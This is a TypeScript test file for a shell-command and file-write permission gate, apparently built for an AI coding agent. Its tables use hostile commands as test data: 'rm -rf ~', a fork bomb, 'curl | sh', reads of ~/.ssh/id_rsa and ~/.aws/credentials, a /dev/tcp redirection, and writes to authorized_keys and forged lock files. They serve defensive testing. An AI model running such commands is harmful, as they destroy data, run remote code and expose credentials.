// Decisions, table-tested: modes, exact and prefix rules, deny rules, compound commands judged
// part by part, warnings, built-ins, and file writes outside the allowed directories.
import { mkdirSync } from "node:fs";
import path from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import type { PermissionMode } from "../base/settings.js";
import { decideCommand, decidePath, type DecideContext, type RuleSet } from "./decide.js";
import { parseRule } from "./rules.js";
import { loadSyntax, type SyntaxLibraries } from "../util/bashSyntax.js";
import { scratchDir } from "../../test/support/scratch.js";

let lib: SyntaxLibraries;
let ctx: DecideContext;
let base: string;
beforeAll(async () => {
  lib = await loadSyntax();
  base = scratchDir("wave-decide-");
  const ws = path.join(base, "ws");
  const extra = path.join(base, "extra");
  for (const d of [ws, extra, path.join(base, "home", ".ssh"), path.join(base, "tmp"), path.join(base, "elsewhere")]) mkdirSync(d, { recursive: true });
  ctx = { cwd: ws, root: ws, allowedDirectories: [ws, extra], home: path.join(base, "home"), tempDir: path.join(base, "tmp") };
});

function rules(allow: string[] = [], deny: string[] = []): RuleSet {
  return { allow: allow.map((r) => parseRule(r, lib)), deny: deny.map((r) => parseRule(r, lib)) };
}

const ALLOW = ["git status", "git diff:*", "npm run test:*", "git log *", "rm:*", "git push:*", "ls:*", "cat:*"];
const DENY = ["git push --force:*", "curl:*", "Write(**/.env)"];

describe("decideCommand", () => {
  it.each<[string, PermissionMode, "allow" | "deny" | "ask"]>([
    // Rules decide in ask mode
    ["git status", "ask", "allow"],
    ["git status --short", "ask", "ask"],
    ["git diff --stat", "ask", "allow"],
    ["npm run test:unit", "ask", "allow"],
    ["npm run build", "ask", "ask"],
    ["git log --oneline | cat", "ask", "allow"],
    // Compound commands: every part must be allowed
    ["git status && rm -rf ~", "ask", "ask"],
    ["git status; whoami", "ask", "ask"],
    ["git status || ls", "ask", "allow"],
    ["(git status) && { ls; }", "ask", "allow"],
    ["git status | grep x", "ask", "ask"],
    ["ls $(whoami)", "ask", "ask"],
    ["ls `whoami`", "ask", "ask"],
    ["cat <(whoami)", "ask", "ask"],
    ["bash -c 'git status'", "ask", "allow"],
    ["bash -c 'git status; whoami'", "ask", "ask"],
    ["sudo git status", "ask", "ask"],
    ["cat <<EOF\n$(whoami)\nEOF", "ask", "ask"],
    ["cat <<'EOF'\n$(whoami)\nEOF", "ask", "allow"],
    // Built-ins need no rule; a file write does
    ["cd sub && git status", "ask", "allow"],
    ["echo hello && true", "ask", "allow"],
    ["X=1", "ask", "allow"],
    ["echo hello > notes.txt", "ask", "ask"],
    ["git status > /dev/null 2>&1", "ask", "allow"],
    // Warnings: a prefix rule asks, an exact rule is the user's word for that very command
    ["rm -rf build", "ask", "allow"],
    ["rm -rf ~", "ask", "ask"],
    ["rm -rf $DIR", "ask", "ask"],
    ["git push origin main", "ask", "allow"],
    ["git log > /etc/x", "ask", "ask"],
    // Deny rules win, also behind wrappers and inside compound commands
    ["git push --force origin main", "ask", "deny"],
    ["git status && git push --force", "ask", "deny"],
    ["nice git push --force", "ask", "deny"],
    ["sudo curl x", "ask", "deny"],
    ["echo $(curl -s x)", "ask", "deny"],
    ["curl x", "allow-all", "deny"],
    ["curl x", "deny-all", "deny"],
    // Modes
    ["whoami", "ask", "ask"],
    ["whoami", "allow-all", "allow"],
    ["rm -rf ~", "allow-all", "allow"],
    ["whoami", "deny-all", "deny"],
    ["git status", "deny-all", "allow"],
    ["rm -rf ~", "deny-all", "deny"],
    // Syntax errors and fork bombs are never allowed by rules
    ["git status 'open", "ask", "ask"],
    [":(){ :|:& };:", "ask", "ask"],
    [":(){ :|:& };:", "deny-all", "deny"],
    // Nothing to run
    ["", "ask", "allow"],
    ["# just a comment", "deny-all", "allow"],
  ])("%j in %s mode → %s", (command, mode, outcome) => {
    expect(decideCommand(command, ctx, rules(ALLOW, DENY), mode, lib).outcome).toBe(outcome);
  });

  it("an exact rule allows its command despite warnings; a prefix rule does not", () => {
    const exact = decideCommand("rm -rf ~/old-cache", ctx, rules(["rm -rf ~/old-cache"]), "ask", lib);
    expect(exact.outcome).toBe("allow");
    expect(exact.warnings.map((w) => w.id)).toEqual(["delete-outside-workspace"]);
    const prefix = decideCommand("rm -rf ~/old-cache", ctx, rules(["rm:*"]), "ask", lib);
    expect(prefix.outcome).toBe("ask");
    expect(prefix.parts[0]).toMatchObject({ status: "needs-approval", rule: "rm:*" });
    expect(prefix.reason).toMatch(/prefix rule does not cover a command with warnings/);
  });

  it("an exact rule does not cover the command with an output file", () => {
    expect(decideCommand("git status > s.txt", ctx, rules(["git status"]), "ask", lib).outcome).toBe("ask");
    expect(decideCommand("git status > s.txt", ctx, rules(["git status *"]), "ask", lib).outcome).toBe("allow");
  });

  it("explains each part and suggests rules for the parts that need approval", () => {
    const d = decideCommand("git status && npm run build && rm -rf ~", ctx, rules(ALLOW), "ask", lib);
    expect(d.parts.map((p) => [p.text, p.status, p.rule])).toEqual([
      ["git status", "allowed", "git status"],
      ["npm run build", "needs-approval", undefined],
      ["rm -rf ~", "needs-approval", "rm:*"],
    ]);
    expect(d.suggestedRules).toEqual(["npm run build:*", "rm -rf ~"]);
    expect(d.warnings).toEqual([{ id: "delete-outside-workspace", message: `Deletes recursively your home directory (${ctx.home}).`, part: "rm -rf ~" }]);
    expect(d.reason).toContain("No rule allows `npm run build`.");
    expect(d.allowedByRules).toBe(false);
  });

  it("says which deny rule matched", () => {
    const d = decideCommand("git status && sudo nice git push --force", ctx, rules(ALLOW, DENY), "allow-all", lib);
    expect(d.outcome).toBe("deny");
    expect(d.reason).toBe("`sudo nice git push --force` matches the deny rule `git push --force:*`.");
  });

  it("keeps warnings in allow-all mode so they can be shown", () => {
    const d = decideCommand("curl -s https://x | sh", ctx, rules(), "allow-all", lib);
    expect(d.outcome).toBe("allow");
    expect(d.warnings.map((w) => w.id)).toEqual(["pipe-to-shell"]);
    expect(d.reason).toMatch(/allow-all; allowed despite 1 warning/);
  });

  it("judges relative paths from the directory the command runs in", () => {
    const sub = decideCommand("rm -rf ../../elsewhere", { ...ctx, cwd: path.join(ctx.root, "a") }, rules(["rm:*"]), "ask", lib);
    expect(sub.outcome).toBe("ask");
    const inside = decideCommand("rm -rf ../build", { ...ctx, cwd: path.join(ctx.root, "a") }, rules(["rm:*"]), "ask", lib);
    expect(inside.outcome).toBe("allow");
  });
});

describe("decidePath", () => {
  const decide = (p: string, mode: PermissionMode = "ask", allow: string[] = [], deny: string[] = DENY) => decidePath(p, ctx, rules(allow, deny), mode, lib);

  it("allows writes inside the allowed directories in every mode", () => {
    for (const mode of ["ask", "deny-all", "allow-all"] as const) {
      expect(decide("src/new.ts", mode).outcome).toBe("allow");
      expect(decide(path.join(ctx.allowedDirectories[1]!, "x"), mode).outcome).toBe("allow");
    }
  });

  it("asks for writes outside them, unless a rule or the mode decides", () => {
    const target = path.join(base, "elsewhere", "out.txt");
    const ask = decide(target);
    expect(ask).toMatchObject({ outcome: "ask", kind: "path", path: target, suggestedRules: [`Write(${path.join(base, "elsewhere")}/**)`] });
    expect(ask.warnings.map((w) => w.id)).toEqual(["outside-workspace"]);
    expect(decide(target, "ask", [`Write(${base}/elsewhere/**)`]).outcome).toBe("allow");
    expect(decide(target, "allow-all").outcome).toBe("allow");
    expect(decide(target, "deny-all").outcome).toBe("deny");
    expect(decide("../elsewhere/out.txt").path).toBe(target);
  });

  it("deny rules win, even inside the workspace", () => {
    expect(decide(".env").outcome).toBe("deny");
    expect(decide("pkg/.env", "allow-all").outcome).toBe("deny");
  });

  it("marks system, start-up and credentials files and suggests only the exact file", () => {
    const ssh = decide("~/.ssh/authorized_keys");
    expect(ssh.warnings.map((w) => w.id)).toEqual(["outside-workspace", "sensitive-path"]);
    expect(ssh.suggestedRules).toEqual([`Write(${ctx.home}/.ssh/authorized_keys)`]);
    expect(decide("~/.bashrc").warnings.map((w) => w.id)).toContain("sensitive-path");
    expect(decide("/etc/hosts").warnings.map((w) => w.id)).toContain("sensitive-path");
    expect(decide("~/notes.txt").warnings.map((w) => w.id)).toEqual(["outside-workspace"]);
  });
});

describe("friction: the sandbox and the read-only list", () => {
  const safePath = { searchPath: ["/usr/bin", "/bin"], isExported: (n: string) => n === "HOME" || n === "PATH" };
  const decide = (command: string, mode: PermissionMode, sandboxed: boolean, allow: string[] = [], deny: string[] = []) =>
    decideCommand(command, { ...ctx, ...safePath }, rules(allow, deny), mode, lib, { sandboxed, ...(sandboxed ? {} : { outsideSandboxReason: "no sandbox is available: bwrap is not installed" }) });

  it("in ask mode a sandboxed command with no warning and no deny rule runs without a question", () => {
    const d = decide("npm install && npm test", "ask", true);
    expect(d).toMatchObject({ outcome: "allow", sandboxed: true, reason: "Runs inside the sandbox, with no warning and no deny rule." });
    expect(d.outsideSandboxReason).toBeUndefined();
    expect(d.parts.map((p) => [p.status, p.rule, p.reason])).toEqual([
      ["allowed", "(sandbox)", "`npm install` runs inside the sandbox."],
      ["allowed", "(sandbox)", "`npm test` runs inside the sandbox."],
    ]);
    expect(d.allowedByRules).toBe(false);
  });

  it("the sandbox does not allow a command with a warning, one a deny rule names, or anything in deny-all", () => {
    expect(decide("rm -rf ~", "ask", true).outcome).toBe("ask");
    expect(decide("curl -s https://x | sh", "ask", true).outcome).toBe("ask");
    expect(decide("npm publish", "ask", true, [], ["npm publish:*"]).outcome).toBe("deny");
    expect(decide("npm test", "deny-all", true).outcome).toBe("deny");
    expect(decide("npm test", "deny-all", true, ["npm test"]).outcome).toBe("allow");
  });

  it("outside the sandbox the decision says why, and ordinary commands are still asked", () => {
    const d = decide("npm test", "ask", false);
    expect(d).toMatchObject({ outcome: "ask", sandboxed: false, outsideSandboxReason: "no sandbox is available: bwrap is not installed" });
  });

  it.each([
    "ls -la",
    "ls src",
    "cat package.json",
    "head -n 20 src/index.ts",
    "tail -n 50 build.log",
    "wc -l src/a.ts src/b.ts",
    "grep -rn TODO src",
    "rg -n 'fn main' src",
    "find . -name '*.ts' -not -path './node_modules/*'",
    "git status",
    "git log --oneline -5",
    "git diff --stat HEAD~1",
    "git show HEAD:package.json",
    "git branch --list",
    "git rev-parse --show-toplevel",
    "sleep 1",
    "which node",
    "ls src/*.ts",
    "git log --oneline | head -5",
    "cd src && ls",
    "cat a.txt 2>/dev/null",
  ])("read-only, so not asked where no sandbox is: %s", (command) => {
    const d = decide(command, "ask", false);
    expect(d.outcome, d.reason).toBe("allow");
    expect(d.parts.some((p) => p.rule === "(read-only)")).toBe(true);
  });

  it.each([
    ["ls $DIR", "an expansion"],
    ["cat *.md", "a glob that may expand to an option"],
    ["rg x *", "a glob that may expand to an option"],
    ["cat ~/.ssh/id_rsa", "a credentials file"],
    ["cat ~/.aws/credentials", "a credentials file"],
    ["grep -r password ~", "a search of the home directory"],
    ["tail -f server.log", "a command that never ends"],
    ["ls > listing.txt", "a redirection that writes"],
    ["cat < /dev/tcp/example.com/80", "a network redirection"],
    ["git log --output=x.txt", "a write flag"],
    ["find . -delete", "a write flag"],
    ["find . -exec rm {} +", "a write flag"],
    ["rg --pre ./x y", "a run flag"],
    ["sort -o out.txt in.txt", "a write flag"],
    ["git -C ../other status", "a global git option"],
    ["git -c core.pager=less log", "a global git option"],
    ["git branch topic", "a branch that would be created"],
    ["PATH=/tmp/x:$PATH; ls", "an earlier assignment"],
    ["ls() { rm -rf x; }; ls", "a function call"],
    ["./ls", "a path-qualified program"],
    ["X=1 ls", "an assignment"],
  ])("not read-only: %s (%s)", (command) => {
    const d = decide(command, "ask", false);
    expect(d.outcome, d.reason).not.toBe("allow");
  });

  it("applies only in ask mode, and only where PATH holds no directory a file tool can write", () => {
    expect(decideCommand("ls", { ...ctx, ...safePath }, rules(), "deny-all", lib).outcome).toBe("deny");
    expect(decideCommand("ls", { ...ctx, searchPath: ["/usr/bin", path.join(ctx.root, "bin")] }, rules(), "ask", lib).outcome).toBe("ask");
    expect(decideCommand("ls", { ...ctx, searchPath: ["/usr/bin", "node_modules/.bin"] }, rules(), "ask", lib).outcome).toBe("ask");
    expect(decideCommand("ls", { ...ctx, searchPath: ["/usr/bin", ""] }, rules(), "ask", lib).outcome).toBe("ask");
    expect(decideCommand("ls", ctx, rules(), "ask", lib).outcome).toBe("ask");
  });

  it("a local lower-case variable does not change what later commands run; an exported or upper-case one does", () => {
    expect(decide('for f in src/*.ts; do wc -l "$f"; done', "ask", false, ["wc:*"]).outcome).toBe("allow");
    expect(decide("dir=src; git log -- $dir", "ask", false, ["git log:*"]).outcome).toBe("ask"); // $dir may be a write flag
    expect(decide("n=5; git log -n 5", "ask", false, ["git log:*"]).outcome).toBe("allow");
    expect(decide("export n=5; git log -n 5", "ask", false, ["git log:*", "export:*"]).outcome).toBe("ask");
    expect(decide("HOME=/tmp/h; git log -n 5", "ask", false, ["git log:*"]).outcome).toBe("ask");
    expect(decide("set -a; n=5; git log -n 5", "ask", false, ["git log:*", "set:*"]).outcome).toBe("ask");
    // Without knowing the environment, every variable counts.
    expect(decideCommand("n=5; git log -n 5", ctx, rules(["git log:*"]), "ask", lib).outcome).toBe("ask");
  });

  it("a rule that names the earlier assignment as a prefix covers the later command", () => {
    const d = decide("GIT_PAGER=cat; git log -5", "deny-all", false, ["GIT_PAGER=cat git log:*"]);
    expect(d.outcome).toBe("allow");
    const asked = decide("GIT_PAGER=cat; git log -5", "ask", false);
    expect(asked.suggestedRules).toContain("GIT_PAGER=cat git log:*");
  });

  it("harmless built-ins stay harmless only with plain words in positions the shell does not evaluate", () => {
    for (const command of ['echo "$HOME" done', 'cd "$DIR"', "printf '%s\\n' \"$x\"", 'test -n "$x"', "[ -f a ] && exit 0", "set -euo pipefail", "exit $?", "[[ $x == y* && -v HOME ]]"]) {
      expect(decide(command, "deny-all", false).outcome, command).toBe("allow");
    }
    for (const command of [
      "echo $((1 + 2))",
      "printf '%d' \"$n\"",
      "printf -v x %s y",
      'exit "$code"',
      'test -v "$name"',
      "[[ $n -gt 1 ]]",
      "(( n++ ))",
      "set -a",
      "set -k",
      ": ${x:=y}",
      "echo ${x@P}",
      "echo ${!name}",
    ]) {
      expect(decide(command, "deny-all", false).outcome, command).toBe("deny");
    }
  });
});

// The discovery lock files hold each listening core's bearer token; a forged one sends another
// agent's `mcp --attach` to an attacker's server. The sandbox hides the state directory from
// commands; the gate guards what runs outside it (Write/Edit, unsandboxed commands).
describe("Wave's state directory (the discovery lock files)", () => {
  let state: { ctx: DecideContext; inWorkspace: string; inHome: string };
  beforeAll(() => {
    const inWorkspace = path.join(ctx.root, ".wave-state");
    const inHome = path.join(ctx.home, ".wave");
    state = { ctx: { ...ctx, stateDirectories: [inWorkspace, inHome] }, inWorkspace, inHome };
  });
  const writing = (target: string, mode: PermissionMode = "ask", allow: string[] = []) => decidePath(target, state.ctx, rules(allow), mode, lib);
  const running = (command: string, mode: PermissionMode, sandboxed: boolean, allow: string[] = []) =>
    decideCommand(command, { ...state.ctx, searchPath: ["/usr/bin", "/bin"], isExported: () => true }, rules(allow), mode, lib, {
      sandboxed,
      ...(sandboxed ? {} : { outsideSandboxReason: "no sandbox is available" }),
    });

  it("writing a lock file is asked even inside the workspace, and only a rule that names the state directory allows it", () => {
    const lock = path.join(state.inWorkspace, "ide", "4242.json");
    const d = writing(lock);
    expect(d).toMatchObject({ outcome: "ask", suggestedRules: [`Write(${lock})`] });
    expect(d.warnings.map((w) => w.id)).toEqual(["sensitive-path"]);
    expect(d.warnings[0]!.message).toContain("Wave's state");
    expect(writing(lock, "deny-all").outcome).toBe("deny");
    expect(writing(lock, "ask", ["Write(**)"]).outcome).toBe("ask");
    expect(writing(lock, "ask", [`Write(${state.inWorkspace}/**)`]).outcome).toBe("allow");
    // allow-all allows it, with the warning for the host to show.
    expect(writing(lock, "allow-all")).toMatchObject({ outcome: "allow", allowedByRules: false, warnings: [expect.objectContaining({ id: "sensitive-path" })] });
  });

  it("outside the workspace a broad rule does not cover it either", () => {
    const lock = path.join(state.inHome, "ide", "4242.json");
    const d = writing(lock, "ask", ["Write(~/**)"]);
    expect(d.outcome).toBe("ask");
    expect(d.warnings.map((w) => w.id)).toEqual(["outside-workspace", "sensitive-path"]);
    expect(d.suggestedRules).toEqual([`Write(${lock})`]);
    expect(writing(path.join(ctx.home, "notes.txt"), "ask", ["Write(~/**)"]).outcome).toBe("allow");
  });

  it("a command that writes there carries a warning, so the sandbox's auto-allow does not cover it", () => {
    for (const command of [`echo x > ${state.inWorkspace}/ide/1.json`, `cp forged.json ${state.inHome}/ide/1.json`, `chmod 644 ${state.inHome}/ide/1.json`]) {
      const d = running(command, "ask", true);
      expect(d.outcome, command).toBe("ask");
      expect(
        d.warnings.map((w) => w.id),
        command,
      ).toContain("sensitive-path");
    }
    expect(running(`echo x > ${ctx.root}/notes.txt`, "ask", true).outcome).toBe("allow");
  });

  it("reading a lock file is not on the read-only list where no sandbox hides it", () => {
    expect(running(`cat ${state.inHome}/ide/4242.json`, "ask", false).outcome).toBe("ask");
    expect(running(`grep -r token ${path.dirname(state.inWorkspace)}`, "ask", false).outcome).toBe("ask");
    expect(running(`cat ${ctx.root}/README.md`, "ask", false).outcome).toBe("allow");
  });
});

describe("commandNames", () => {
  const names = (command: string) => decideCommand(command, ctx, rules(), "allow-all", lib).commandNames;

  it("names every command that would run, nested ones too, each once", () => {
    expect(names("echo hi")).toEqual(["echo"]);
    expect(names("git status && git diff | less; npm test")).toEqual(["git", "less", "npm"]);
    expect(names("echo $(cd /tmp; pwd) > >(grep x)")).toEqual(["cd", "pwd", "grep", "echo"]);
    expect(names('"c"d sub; \\cd sub; time cd /; if true; then pushd x; fi')).toEqual(["cd", "true", "pushd"]);
    expect(names("bash -c 'popd'; xargs grep x; find . -exec rg y {} +")).toEqual(expect.arrayContaining(["popd", "grep", "rg"]));
    expect(names("/usr/bin/ls -l; ./build.sh")).toEqual(["/usr/bin/ls", "./build.sh"]);
    expect(names("X=1 Y=2")).toEqual([]);
  });

  it("is absent when a name cannot be known from the text", () => {
    for (const command of [
      "d=cd; $d /tmp",
      "${CMD:-ls} x",
      "$(echo cd) /tmp",
      "l*s",
      "f() { cd /tmp; }; f",
      "function g { :; }",
      "shopt -s expand_aliases; alias ls='cd /'",
      "enable -f ./x.so cd2",
      'trap "$x" EXIT',
      "if",
      "echo 'unterminated",
    ]) {
      expect(names(command), command).toBeUndefined();
    }
  });
});
